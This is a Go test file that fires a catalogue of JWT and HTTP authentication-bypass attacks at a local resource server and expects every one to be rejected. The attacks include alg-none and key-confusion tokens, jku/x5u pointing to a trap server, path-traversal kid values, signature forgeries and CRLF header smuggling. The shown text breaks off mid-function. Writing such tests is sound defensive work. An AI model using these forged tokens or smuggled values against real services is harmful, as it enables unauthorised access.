package protector_test

import (
	"bytes"
	"context"
	"crypto"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"log/slog"
	"math/big"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"text/tabwriter"
	"time"

	"github.com/stretchr/testify/require"

	"example.com/resourceserver/jwks"
	"example.com/resourceserver/jwt"
	"example.com/resourceserver/jwt/jwttest"
	"example.com/resourceserver/jwt/tokencache"
	"example.com/resourceserver/protector"
)

// An attack is a way to get past a validator that has been seen to work somewhere, and what ought to become of it here.
type attack struct {
	name   string
	weaker string // what a validator does that falls for it
	tokens func(a *arena) []string
	send   func(a *arena, token string) answer // default: as a bearer token
	want   verdict
}

// A verdict is an answer, with the reason that stands in the log and nowhere else.
type verdict struct {
	status int
	code   string // the error of the challenge; empty for none
	reason string
}

func invalidToken(reason jwt.Reason) verdict { return verdict{401, "invalid_token", string(reason)} }

var (
	badRequest    = verdict{400, "invalid_request", "malformed"}
	tooMany       = verdict{400, "invalid_request", "several_credentials"}
	tooLong       = verdict{401, "invalid_token", "too_large"}
	noCredentials = verdict{401, "", "no_credentials"}
	tooLittle     = verdict{403, "insufficient_scope", "insufficient_scope"}
	byServer      = verdict{400, "", ""} // net/http does not let the request in
)

// TestAttacks sends real requests to a real server whose handler must not run. Run it with -v for the table:
//
//	go test -run Attacks -v ./protector
func TestAttacks(t *testing.T) {
	t.Run("validator", func(t *testing.T) { attackAll(newArena(t, false)) })
	t.Run("cache", func(t *testing.T) { attackAll(newArena(t, true)) })
}

func attackAll(a *arena) {
	attacks := []attack{
		// The algorithm.
		{ // checklist 33, 109
			"alg none, in every letter case", "takes the header's word that nothing is signed",
			each([]string{"none", "None", "NONE", "nOnE", "NoNe", "nonE", "none ", "none\x00"}, func(a *arena, alg string) string {
				return a.token(jwttest.Header("alg", alg), jwttest.Signature(nothing))
			}), nil, invalidToken(jwt.ReasonAlgorithm),
		},
		{ // checklist 33
			"alg none, signature kept", "checks no signature because of alg, and finds one that looks right",
			one(jwttest.Header("alg", "none")), nil, invalidToken(jwt.ReasonAlgorithm),
		},
		{ // checklist 48, 50, 51
			"RS256 to HS256, the public key as secret", "passes the public key to verify, which takes it for an HMAC secret",
			publicKeyAsSecret, nil, invalidToken(jwt.ReasonAlgorithm),
		},
		{ // checklist 51, 55
			"HS256 with no secret, or a guessed one", "verifies with whatever its configuration left empty",
			each([]string{"", "secret", "null", "undefined"}, func(a *arena, secret string) string {
				return a.token(jwttest.Header("alg", "HS256"), jwttest.Signature(hs256([]byte(secret))))
			}), nil, invalidToken(jwt.ReasonAlgorithm),
		},
		{ // checklist 51
			"HS256 with the oct key of the set", "uses any key of the set with any algorithm",
			func(a *arena) []string {
				return of(a.token(jwttest.Header("alg", "HS256"), jwttest.Header("kid", "oct"), jwttest.Signature(hs256([]byte(octSecret)))))
			}, nil, invalidToken(jwt.ReasonAlgorithm),
		},
		{ // checklist 49
			"an EC signature under the kid of an RSA key", "chooses the key by kid and the algorithm by header, and never compares",
			func(a *arena) []string {
				return of(a.token(jwttest.Alg("ES256"), jwttest.Header("kid", a.rsa)), a.token(jwttest.Alg("EdDSA"), jwttest.Header("kid", a.rsa)))
			}, nil, invalidToken(jwt.ReasonUnknownKey),
		},
		{ // checklist 32, 49, 88
			"PS256 by a key that names RS256", "takes one RSA key for all RSA algorithms",
			func(a *arena) []string { return of(a.token(jwttest.Key(a.rsa), jwttest.Alg("PS256"))) }, nil, invalidToken(jwt.ReasonUnknownKey),
		},
		{ // checklist 53
			"ES256 under the kid of a P-384 key", "lets the curve differ from the algorithm's",
			func(a *arena) []string {
				return of(a.token(jwttest.Alg("ES384"), jwttest.Header("alg", "ES256")))
			}, nil, invalidToken(jwt.ReasonUnknownKey),
		},
		{ // checklist 48
			"an algorithm nobody asked for", "offers all that its library can do",
			each([]string{"RS1", "ES256K", "Ed448", "ECDH-ES", "dir", "rs256", "RS256 ", ""}, func(a *arena, alg string) string {
				return a.token(jwttest.Header("alg", alg))
			}), nil, invalidToken(jwt.ReasonAlgorithm),
		},
		{ // checklist 70
			"alg is no string, or is missing", "falls back to a default",
			func(a *arena) []string {
				return of(a.token(jwttest.WithoutHeader("alg")), a.token(jwttest.Header("alg", nil)), a.token(jwttest.Header("alg", 1)),
					a.token(jwttest.Header("alg", []string{"RS256"})), a.token(jwttest.Header("alg", map[string]any{"RS256": 1})))
			}, nil, invalidToken(jwt.ReasonAlgorithm),
		},
		{ // checklist 69
			"alg twice", "reads the first where its library reads the last",
			one(jwttest.DuplicateHeader("alg", "none")), nil, invalidToken(jwt.ReasonHeader),
		},

		// The key.
		{ // checklist 61
			"embedded jwk", "verifies with the key that the token brings along",
			func(a *arena) []string {
				return of(a.forged(jwttest.Header("jwk", a.strangerJWK())), a.forged(jwttest.Header("jwk", a.strangerJWK()), jwttest.WithoutHeader("kid")))
			}, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 60, 117
			"jku to a server of the attacker", "fetches the key set from where the token says",
			each([]string{"", "@issuer.example", "#issuer.example", "?issuer.example"}, func(a *arena, suffix string) string {
				return a.forged(jwttest.Header("jku", a.trap.URL+"/jwks"+suffix))
			}), nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 60
			"x5u to a server of the attacker", "fetches the certificate from where the token says",
			func(a *arena) []string { return of(a.forged(jwttest.Header("x5u", a.trap.URL+"/chain.pem"))) }, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 61
			"x5c with a certificate of the attacker's own", "verifies the chain against itself",
			func(a *arena) []string { return of(a.forged(jwttest.Header("x5c", []string{a.certificate(a.t)}))) }, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 59
			"kid as a path, a query, a format, an address", "uses kid to open a file, to ask a database, to print or to fetch",
			each(kidInjections, func(a *arena, kid string) string {
				return a.token(jwttest.Unpublished(), jwttest.Header("kid", strings.ReplaceAll(kid, "TRAP", a.trap.URL)))
			}), nil, invalidToken(jwt.ReasonUnknownKey),
		},
		{ // checklist 59, 51
			"kid as the path of an empty file, HS256 over it", "reads the secret from /dev/null",
			func(a *arena) []string {
				return of(a.token(jwttest.Header("alg", "HS256"), jwttest.Header("kid", "../../../dev/null"), jwttest.Signature(hs256(nil))))
			}, nil, invalidToken(jwt.ReasonAlgorithm),
		},
		{ // checklist 64
			"kid of 9,000 characters", "keeps it, logs it and asks the issuer about it",
			one(jwttest.Header("kid", strings.Repeat("k", 9000))), nil, invalidToken(jwt.ReasonTooLarge),
		},
		{ // checklist 71
			"kid is no string", "prints it, and finds the key called 1",
			func(a *arena) []string {
				return of(a.token(jwttest.Header("kid", 1)), a.token(jwttest.Header("kid", nil)), a.token(jwttest.Header("kid", []string{a.rsa})), a.token(jwttest.Header("kid", map[string]any{})))
			}, nil, invalidToken(jwt.ReasonHeader),
		},
		{ // checklist 89
			"kid in another letter case", "compares without regard to case",
			func(a *arena) []string { return of(a.token(jwttest.Header("kid", strings.ToLower(a.rsa)))) }, nil, invalidToken(jwt.ReasonUnknownKey),
		},
		{ // checklist 34, 57
			"a key of another issuer, under the kid of ours", "keeps the keys of all issuers in one map",
			func(a *arena) []string {
				return of(a.other.Token(jwttest.Scope("profile")), a.other.Token(jwttest.Scope("profile"), jwttest.Claim("iss", a.issuer.URL())))
			}, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 34
			"a key that the issuer does not publish", "looks for a key that fits until it finds one",
			one(jwttest.Unpublished()), nil, invalidToken(jwt.ReasonUnknownKey),
		},
		{ // checklist 91
			"no kid, and a key of the attacker", "takes a token without kid for one that needs no key",
			one(jwttest.Unpublished(), jwttest.WithoutHeader("kid")), nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 54, 85, 86, 92
			"a key of the set that must not be used", "takes what is in the set: weak, leaked, for encryption, for signing only",
			each([]string{"weak", "leaked", "enc", "sign"}, func(a *arena, kid string) string {
				return a.token(jwttest.Header("kid", kid), jwttest.Header("alg", "RS256"), jwttest.Signature(a.unfit[kid]))
			}), nil, invalidToken(jwt.ReasonUnknownKey),
		},

		// The signature.
		{ // checklist 78
			"no signature", "verifies nothing successfully",
			one(jwttest.Signature(nothing)), nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 52
			"one bit of the signature", "logs that verification failed and goes on",
			one(jwttest.Tampered()), nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 52, 34
			"claims exchanged under a good signature", "verifies a text that it has put together again from what it parsed",
			func(a *arena) []string {
				good, rich := strings.Split(a.token(), "."), strings.Split(a.token(jwttest.Subject("admin")), ".")
				return of(good[0] + "." + rich[1] + "." + good[2])
			}, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 76
			"ECDSA: r and s zero, n, or beyond", "lets zero through (CVE-2022-21449, the psychic paper)",
			ecdsaOutOfRange, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 76
			"ECDSA: DER in place of R and S", "takes what its library takes",
			func(a *arena) []string {
				return of(a.token(jwttest.Alg("ES256"), jwttest.AlterSignature(derOf)))
			}, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 76
			"ECDSA: zeros around R and S", "reads each half as a number, however long",
			func(a *arena) []string {
				return of(a.token(jwttest.Alg("ES256"), jwttest.AlterSignature(func(s []byte) []byte {
					return slices.Concat([]byte{0}, s[:32], []byte{0}, s[32:])
				})))
			}, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 77
			"RSA: a signature that is longer, shorter, or the modulus", "reads it as a number, however long",
			func(a *arena) []string {
				return of(
					a.token(jwttest.AlterSignature(func(s []byte) []byte { return append([]byte{0}, s...) })),
					a.token(jwttest.AlterSignature(func(s []byte) []byte { return append(s, 0) })),
					a.token(jwttest.AlterSignature(func(s []byte) []byte { return s[1:] })),
					a.token(jwttest.AlterSignature(func(s []byte) []byte { return a.private().N.Bytes() })),
					a.token(jwttest.AlterSignature(func(s []byte) []byte { return make([]byte, len(s)) })),
				)
			}, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 32, 52
			"PKCS #1: e = 3 and garbage behind the hash", "parses the padding and forgets what is left (Bleichenbacher 2006)",
			func(a *arena) []string {
				return of(a.token(jwttest.Header("kid", "e3"), jwttest.Signature(cubeRootForgery)))
			}, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 32, 52
			"PKCS #1: paddings that are nearly right", "parses the padding (CVE-2016-1494 and others)",
			nearlyPKCS1, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 80
			"PSS: another salt length", "finds the salt length out from the signature",
			func(a *arena) []string {
				key := a.issuer.PrivateKey(a.pss).(*rsa.PrivateKey)
				return of(a.token(jwttest.Key(a.pss), jwttest.Signature(pss(key, rsa.PSSSaltLengthAuto))), a.token(jwttest.Key(a.pss), jwttest.Signature(pss(key, 20))),
					a.token(jwttest.Key(a.pss), jwttest.Signature(pss(key, 64))))
			}, nil, invalidToken(jwt.ReasonSignature),
		},
		{ // checklist 52
			"Ed25519: zeros, and S beyond the group's order", "does not reduce S (RFC 8032 §8.4), so that a token has two spellings",
			func(a *arena) []string {
				return of(a.token(jwttest.Alg("EdDSA"), jwttest.AlterSignature(func(s []byte) []byte { return make([]byte, 64) })),
					a.token(jwttest.Alg("EdDSA"), jwttest.AlterSignature(secondSpelling)))
			}, nil, invalidToken(jwt.ReasonSignature),
		},

		// The form of the token.
		{ // checklist 41
			"a JWE", "decrypts with a key that anybody could have encrypted to",
			fixed("eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.AAAA.AAAA.AAAA.AAAA"), nil, invalidToken(jwt.ReasonEncrypted),
		},
		{ // checklist 101
			"a JWS inside a JWS", "unwraps it, and checks the outer signature only",
			func(a *arena) []string {
				return of(a.token(jwttest.Header("cty", "JWT"), jwttest.RawPayload(a.other.Token(jwttest.Scope("profile")))))
			}, nil, invalidToken(jwt.ReasonClaims),
		},
		{ // checklist 79, 3
			"JSON serialization", "verifies one of its signatures and reads another's header",
			func(a *arena) []string {
				p := strings.Split(a.token(), ".")
				return of(fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q}`, p[0], p[1], p[2]),
					fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, p[1], p[0], p[2]))
			}, nil, badRequest,
		},
		{ // checklist 79, 65
			"JSON serialization, in base64url", "finds out by itself what it was given",
			func(a *arena) []string {
				p := strings.Split(a.token(), ".")
				return of(b64(fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q}`, p[0], p[1], p[2])))
			}, nil, invalidToken(jwt.ReasonMalformed),
		},
		{ // checklist 75
			"b64 false", "verifies the payload as it is, and reads it decoded",
			func(a *arena) []string {
				return of(a.token(jwttest.Header("b64", false), jwttest.Header("crit", []string{"b64"})), a.token(jwttest.Header("b64", false)), a.token(jwttest.Header("b64", true)))
			}, nil, invalidToken(jwt.ReasonCritical),
		},
		{ // checklist 72, 73, 74
			"crit, understood by nobody", "ignores headers that it does not know, this one included",
			each([]any{[]string{"x"}, []string{}, "x", nil, []string{"alg"}, []string{"exp", "exp"}, []any{1}}, func(a *arena, crit any) string {
				return a.token(jwttest.Header("x", 1), jwttest.Header("crit", crit))
			}), nil, invalidToken(jwt.ReasonCritical),
		},
		{ // checklist 65
			"more or fewer segments", "splits at dots and takes the first three",
			func(a *arena) []string {
				good := a.token()
				return of(good+".", good+".AAAA", "."+good, strings.Join(strings.Split(good, ".")[:2], "."), strings.ReplaceAll(good, ".", ""))
			}, nil, invalidToken(jwt.ReasonMalformed),
		},
		{ // checklist 66, 67
			"other spellings in base64", "takes any alphabet, any padding and any trailing bits, so that a revoked token lives on under another name",
			func(a *arena) []string {
				good := a.token()
				return of(good+"=", good+"==", good[:len(good)-1]+respell(good[len(good)-1]), a.token(jwttest.Claim("x", "???>>>"), jwttest.Subject("~~~"))+"/")
			}, nil, invalidToken(jwt.ReasonMalformed),
		},
		{ // checklist 64
			"a payload that nests 3,000 levels deep", "recurses until the stack or the time is used up",
			one(jwttest.Claim("x", json.RawMessage(strings.Repeat("[", 3000)+strings.Repeat("]", 3000)))), nil, invalidToken(jwt.ReasonClaims),
		},
		{ // checklist 64
			"a header that nests 2,000 levels deep", "parses before it verifies",
			one(jwttest.Header("x", json.RawMessage(strings.Repeat("[", 2000)+strings.Repeat("]", 2000)))), nil, invalidToken(jwt.ReasonHeader),
		},
		{ // checklist 64
			"a token of 100,000 characters", "decodes and hashes it first",
			one(jwttest.Claim("x", strings.Repeat("a", 100_000))), nil, tooLong,
		},
		{ // checklist 56, 68
			"a header that is not one JSON object in UTF-8", "repairs it",
			each([]string{"\ufeff" + goodHeader, goodHeader + goodHeader, "[" + goodHeader + "]", strings.Replace(goodHeader, "{", "{\"\xff\":1,", 1), goodHeader + "\x00"}, func(a *arena, header string) string {
				return a.token(jwttest.RawHeader(strings.ReplaceAll(header, "KID", a.rsa)))
			}), nil, invalidToken(jwt.ReasonHeader),
		},
		{ // checklist 56, 101, 110
			"claims that are not one JSON object in UTF-8", "repairs them",
			each([]string{"\ufeff{}", `{}{}`, `[{}]`, "null", "\"\xff\"", "{\"sub\":\"\xff\"}", `{"sub":"\ud800"}`, "{\x00}", "", "{'sub':1}"}, func(a *arena, payload string) string {
				return a.token(jwttest.RawPayload(payload))
			}), nil, invalidToken(jwt.ReasonClaims),
		},

		// The claims.
		{ // checklist 100
			"a claim twice", "checks the first and hands out the last",
			func(a *arena) []string {
				return of(a.token(jwttest.DuplicateClaim("sub", "admin")), a.token(jwttest.DuplicateClaim("exp", 9999999999)), a.token(jwttest.DuplicateClaim("aud", "x")),
					a.token(jwttest.RawPayload(`{"sub":"a","\u0073ub":"admin"}`)))
			}, nil, invalidToken(jwt.ReasonClaims),
		},
		{ // checklist 35, 106
			"a claim in another letter case", "finds Exp when it looks for exp, and takes the last",
			one(jwttest.ExpiresIn(-time.Hour), jwttest.Claim("EXP", 9999999999), jwttest.Claim("Exp", 9999999999)), nil, invalidToken(jwt.ReasonExpired),
		},
		{ // checklist 37, 108
			"a required claim missing, null or empty", "checks what is there",
			func(a *arena) (tokens []string) {
				for _, claim := range []string{"iss", "exp", "aud", "sub", "client_id", "iat", "jti"} {
					tokens = append(tokens, a.token(jwttest.Without(claim)), a.token(jwttest.Claim(claim, nil)), a.token(jwttest.Without(claim), jwttest.Claim(strings.ToUpper(claim), "x")))
				}
				return append(tokens, a.token(jwttest.Subject("")), a.token(jwttest.ClientID("")))
			}, nil, invalidToken(jwt.ReasonMissingClaim),
		},
		{ // checklist 38, 98, 99
			"exp as text, as a huge or negative number", "converts it, or lets it overflow into the far future",
			each([]string{`"9999999999"`, "-1", "1e999", "253402300800", "18446744073709551615", "9223372036854775808", strings.Repeat("9", 400), "true", "[9999999999]", "{}"}, func(a *arena, exp string) string {
				return a.token(jwttest.Claim("exp", json.RawMessage(exp)))
			}), nil, invalidToken(jwt.ReasonClaimType),
		},
		{ // checklist 99
			"exp as what JSON does not have", "has a lenient parser",
			each([]string{"NaN", "Infinity", "0x7fffffff", "+1", "01", "1_000", ""}, func(a *arena, exp string) string {
				return a.token(jwttest.Claim("exp", json.RawMessage(exp)))
			}), nil, invalidToken(jwt.ReasonClaims),
		},
		{ // checklist 35
			"expired", "has a leeway of hours, or the time zone wrong",
			one(jwttest.ExpiresIn(-time.Hour)), nil, invalidToken(jwt.ReasonExpired),
		},
		{ // checklist 103
			"not valid yet", "does not read nbf",
			one(jwttest.NotBefore(time.Now().Add(time.Hour))), nil, invalidToken(jwt.ReasonNotYetValid),
		},
		{ // checklist 104
			"issued in the future", "trusts the date for how fresh the token is",
			one(jwttest.IssuedAt(time.Now().Add(time.Hour))), nil, invalidToken(jwt.ReasonIssuedInFuture),
		},
		{ // checklist 31, 58, 106
			"a token for another API of the same issuer", "does not check aud, or looks for ours inside it",
			func(a *arena) (tokens []string) {
				for _, aud := range []string{"https://other.example", "https://api.example.evil.example", "https://api.exampl", "https://API.example", "https://api.example/", "api.example", "*"} {
					tokens = append(tokens, a.token(jwttest.Audience(aud)), a.token(jwttest.Audience(aud, "https://more.example")))
				}
				return append(tokens, a.token(jwttest.Audience()))
			}, nil, invalidToken(jwt.ReasonAudience),
		},
		{ // checklist 105
			"aud with something else among its names", "skips what it does not understand",
			one(jwttest.Claim("aud", []any{"https://api.example", 1})), nil, invalidToken(jwt.ReasonClaimType),
		},
		{ // checklist 30, 106
			"iss that looks like the issuer", "normalizes it, or compares the beginning",
			each([]string{"/", "/.", "#", "?", ".evil.example", "@evil.example", "%2F", "\u200b"}, func(a *arena, suffix string) string {
				return a.token(jwttest.Claim("iss", a.issuer.URL()+suffix))
			}), nil, invalidToken(jwt.ReasonIssuer),
		},
		{ // checklist 28, 29, 47, 62, 63
			"an ID token, or another JWT of the issuer, as access token", "does not read typ",
			each([]string{"JWT", "jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "token-introspection+jwt", "at+jwt2", "application/application/at+jwt"}, func(a *arena, typ string) string {
				return a.token(jwttest.Typ(typ), jwttest.Claim("nonce", "n"), jwttest.Audience(a.issuer.Audience(), "client-1"))
			}), nil, invalidToken(jwt.ReasonType),
		},
		{ // checklist 29, 47
			"an ID token without typ", "reads typ where there is one",
			one(jwttest.WithoutHeader("typ"), jwttest.Claim("nonce", "n")), nil, invalidToken(jwt.ReasonType),
		},
		{ // checklist 136, 153
			"a stolen token that is bound to a key, as a bearer token", "does not know cnf, and makes it worth stealing",
			each([]map[string]any{{"jkt": "x"}, {"x5t#S256": "x"}, {"jwk": map[string]any{}}, {"new": "x"}, {}}, func(a *arena, cnf map[string]any) string {
				return a.token(jwttest.Claim("cnf", cnf))
			}), nil, invalidToken(jwt.ReasonConfirmation),
		},

		// The scope.
		{ // checklist 26
			"scopes that look like the required one", "compares the beginning, the letters, or what they look like",
			each([]string{
				"", "rofile", "profil", "profile:read", "profile.", "Profile", "PROFILE", "*", "profile*", ".*",
				"рrofile", "profile\u200b", "profile\u00a0", "pro\u00adfile", "ｐｒｏｆｉｌｅ",
			}, func(a *arena, scope string) string { return a.token(jwttest.Scope(scope)) }), nil, tooLittle,
		},
		{ // checklist 26, 180
			"scopes that hold the required one among separators", "separates at commas, tabs and line breaks as well",
			each([]string{"email,profile", "profile,email", "profile;email", "profile\temail", "email\nprofile", "profile\x00", "\"profile\"", "+profile"}, func(a *arena, scope string) string {
				return a.token(jwttest.Scope(scope))
			}), nil, tooLittle,
		},
		{ // checklist 44
			"the scope in a name of an array, or in another claim", "splits what is one name, or reads any claim",
			func(a *arena) []string {
				return of(a.token(jwttest.Claim("scope", []string{"profile email"})), a.token(jwttest.Without("scope"), jwttest.Claim("scopes", "profile")),
					a.token(jwttest.Without("scope"), jwttest.Claim("Scope", "profile"), jwttest.Claim("roles", []string{"profile"}), jwttest.Claim("permissions", []string{"profile"})))
			}, nil, tooLittle,
		},
		{ // checklist 45
			"scope of another type", "converts it",
			each([]any{map[string]any{"profile": true}, []any{"profile", 1}, []any{[]string{"profile"}}, true, 1}, func(a *arena, scope any) string {
				return a.token(jwttest.Claim("scope", scope))
			}), nil, invalidToken(jwt.ReasonClaimType),
		},

		// The header field, with a token that is good. Each line sends what a careless reader would take.
		{ // checklist 6
			"two Authorization fields", "reads the first where the proxy in front has read the last",
			good, raws(
				"Authorization: Bearer TOKEN\r\nAuthorization: Bearer x", "Authorization: Bearer x\r\nAuthorization: Bearer TOKEN",
				"Authorization: Bearer TOKEN\r\nauthorization: Bearer TOKEN", "Authorization:\r\nAUTHORIZATION: Bearer TOKEN", "Authorization: Basic YTpi\r\nAuthorization: Bearer TOKEN",
			), tooMany,
		},
		{ // checklist 3, 4
			"more than a token in the field", "takes the part that it likes",
			good, raws(
				"Authorization: Bearer TOKEN, Bearer x", "Authorization: Bearer TOKEN,x", "Authorization: Bearer x TOKEN", "Authorization: Bearer TOKEN x",
				"Authorization: Bearer \"TOKEN\"", "Authorization: Bearer token=TOKEN", "Authorization: Bearer\tTOKEN", "Authorization: Bearer \tTOKEN", "Authorization: Bearer,TOKEN",
				"Authorization: Bearer: TOKEN", "Authorization: Bearer", "Authorization: Bearer =TOKEN", "Authorization: Bearer TOKEN;x", "Authorization: Bearer\u00a0TOKEN", "Authorization: Bearer TOKEN\u200b",
			), badRequest,
		},
		{ // checklist 4
			"a token on two lines", "joins them",
			good, func(a *arena, token string) answer {
				return a.raw("GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer " + token[:20] + "\r\n " + token[20:] + "\r\n\r\n")
			}, badRequest,
		},
		{ // checklist 4
			"line breaks, NUL and white space that no field has", "lets the client write a field of its own into the next hop's request",
			good, raws("Authorization: Bearer x\rAuthorization: Bearer TOKEN", "Authorization: Bearer TOKEN\x00", "Authorization: Bearer TOKEN\x01", "Authorization : Bearer TOKEN", "\x0bAuthorization: Bearer TOKEN"), byServer,
		},
		{ // checklist 13
			"another scheme, or nearly ours", "looks for the token behind the first space",
			good, raws(
				"Authorization: Basic TOKEN", "Authorization: Bearers TOKEN", "Authorization: XBearer TOKEN", "Authorization: BearerTOKEN", "Authorization: TOKEN", "Authorization: DPoP TOKEN",
				"Authorization: Bea\u0280er TOKEN", "Authorization: \u0412earer TOKEN", "Authorization: Token Bearer TOKEN",
			), verdict{401, "", "other_scheme"},
		},
		{ // checklist 147, 13
			"a field of a similar name", "takes what a proxy might have meant",
			good, raws("Proxy-Authorization: Bearer TOKEN", "X-Forwarded-Authorization: Bearer TOKEN", "X-Authorization: Bearer TOKEN", "Authorisation: Bearer TOKEN", "Authorization-: Bearer TOKEN", "X-Access-Token: TOKEN"), noCredentials,
		},
		{ // checklist 1
			"the field in a trailer", "merges trailers into the header",
			good, func(a *arena, token string) answer {
				return a.raw("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n1\r\na\r\n0\r\nAuthorization: Bearer " + token + "\r\n\r\n")
			}, noCredentials,
		},

		// The token in the wrong place.
		{ // checklist 7
			"in the query", "takes tokens from addresses, which are logged by everyone",
			good, raw1("GET /?access_token=TOKEN HTTP/1.1\r\nHost: a\r\n\r\n"), noCredentials,
		},
		{ // checklist 1
			"in a cookie", "takes what browsers send on anybody's behalf",
			good, raws("Cookie: access_token=TOKEN; Authorization=Bearer TOKEN; token=TOKEN"), noCredentials,
		},
		{ // checklist 9
			"in a form", "reads the body before it knows who sends it",
			good, func(a *arena, token string) answer {
				return a.post("/", "application/x-www-form-urlencoded", "access_token="+token)
			}, noCredentials,
		},
		{ // checklist 9
			"in a form of several parts, or of a GET, where forms are enabled", "takes any body for a form",
			good, func(a *arena, token string) answer {
				multipart := "--b\r\nContent-Disposition: form-data; name=\"access_token\"\r\n\r\n" + token + "\r\n--b--\r\n"
				require.Equal(a.t, http.StatusUnauthorized, a.post("/all", "multipart/form-data; boundary=b", multipart).status)
				form := "access_token=" + token
				return a.raw(fmt.Sprintf("GET /all HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(form), form))
			}, noCredentials,
		},
		{ // checklist 5
			"in two places, where all are enabled", "takes one, and logs the caller of the other",
			good, func(a *arena, token string) answer {
				for _, request := range []string{
					"GET /all?access_token=TOKEN HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer TOKEN\r\n\r\n",
					"GET /all?access_token=TOKEN HTTP/1.1\r\nHost: a\r\nCookie: session=TOKEN\r\n\r\n",
					"GET /all?access_token=TOKEN&access_token=x HTTP/1.1\r\nHost: a\r\n\r\n",
				} {
					require.Equal(a.t, http.StatusBadRequest, a.raw(strings.ReplaceAll(request, "TOKEN", token)).status)
				}
				return a.post("/all?access_token="+token, "application/x-www-form-urlencoded", "access_token="+token)
			}, tooMany,
		},
		{ // checklist 1
			"in a cookie, from another site", "takes cookies and does not ask where the request was made",
			good, raw1("POST /all HTTP/1.1\r\nHost: a\r\nOrigin: https://evil.example\r\nSec-Fetch-Site: cross-site\r\nContent-Length: 0\r\nCookie: session=TOKEN\r\n\r\n"),
			verdict{403, "access_denied", "cross_origin"},
		},
	}
	a.run(attacks)
}

// An arena is a service with its issuer, another issuer, and the attacker's own server, which is to see no request.
type arena struct {
	t             *testing.T
	issuer, other *jwttest.Issuer
	rsa, pss      string                         // kids
	unfit         map[string]func([]byte) []byte // signers, by kid, of keys that are published and must not be used
	trap, api     *httptest.Server
	trapped, ran  atomic.Int64
	log           *reasons
}

// newArena returns an arena whose API remembers verified tokens, or does not.
func newArena(t *testing.T, remember bool) *arena {
	a := &arena{t: t, issuer: jwttest.NewIssuer(t), other: jwttest.NewIssuer(t), log: &reasons{}}
	a.rsa, a.pss = a.issuer.KeyID(), a.issuer.AddKey("PS256")
	for _, alg := range []string{"ES256", "ES384", "EdDSA"} {
		a.issuer.AddKey(alg)
	}
	a.publishUnfit()
	a.trap = serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		a.trapped.Add(1)
		w.Write(a.other.JWKS())
	}))
	// A real key set is asked again for each unknown kid, so that none is refused for being asked too often.
	keys, err := jwks.NewRemote(jwks.Config{Issuer: a.issuer.URL(), Cooldown: time.Millisecond})
	require.NoError(t, err)
	tokens, err := jwt.NewValidator(jwt.Config{Issuer: a.issuer.URL(), Audiences: []string{a.issuer.Audience()}, Keys: keys})
	require.NoError(t, err)
	cache, err := tokencache.New(tokens.Validate, tokencache.Config{})
	require.NoError(t, err)
	bearer := protector.Bearer(tokens.Validate)
	if remember {
		bearer = protector.Bearer(cache.Validate)
	}
	config := protector.Config{Validators: []protector.Validator{bearer}, Logger: slog.New(a.log)}
	mux := http.NewServeMux()
	handler := http.HandlerFunc(func(http.ResponseWriter, *http.Request) { a.ran.Add(1) })
	mux.Handle("/", newGuard(t, config).Require("profile")(handler))
	config.AmbientCookie, config.BufferedFormTokens, config.InsecureQueryTokens = "session", true, true
	mux.Handle("/all", newGuard(t, config).Require("profile")(handler))
	a.api = serve(t, mux)
	return a
}

// publishUnfit publishes keys that are good for something else, or for nothing, and one with e = 3, which is allowed.
func (a *arena) publishUnfit() {
	sign := func(key *rsa.PrivateKey) func([]byte) []byte {
		return func(input []byte) []byte {
			return power(key, encodedMessage(key.Size(), sha256Info, digestOf(input)))
		}
	}
	weak := weakKey()
	strong := a.other.PrivateKey(a.other.KeyID()).(*rsa.PrivateKey)
	a.unfit = map[string]func([]byte) []byte{"weak": sign(weak), "leaked": sign(strong), "enc": sign(strong), "sign": sign(strong)}
	n := func(key *rsa.PrivateKey) string { return b64(string(key.N.Bytes())) }
	a.issuer.PublishRaw(
		`{"kty":"oct","kid":"oct","k":"`+b64(octSecret)+`"}`,
		`{"kty":"RSA","kid":"weak","e":"AQAB","n":"`+n(weak)+`"}`,
		`{"kty":"RSA","kid":"leaked","e":"AQAB","n":"`+n(strong)+`","d":"AQAB"}`,
		`{"kty":"RSA","kid":"enc","use":"enc","e":"AQAB","n":"`+n(strong)+`"}`,
		`{"kty":"RSA","kid":"sign","key_ops":["sign"],"e":"AQAB","n":"`+n(strong)+`"}`,
		`{"kty":"RSA","kid":"e3","alg":"RS256","e":"Aw","n":"`+n(strong)+`"}`,
	)
}

// run makes the attacks, with a good token before and after them, and prints the table.
func (a *arena) run(attacks []attack) {
	a.welcome()
	var table strings.Builder
	w := tabwriter.NewWriter(&table, 0, 0, 2, ' ', 0)
	fmt.Fprintln(w, "ATTACK\tA WEAKER VALIDATOR\tOUR ANSWER")
	requests := 0
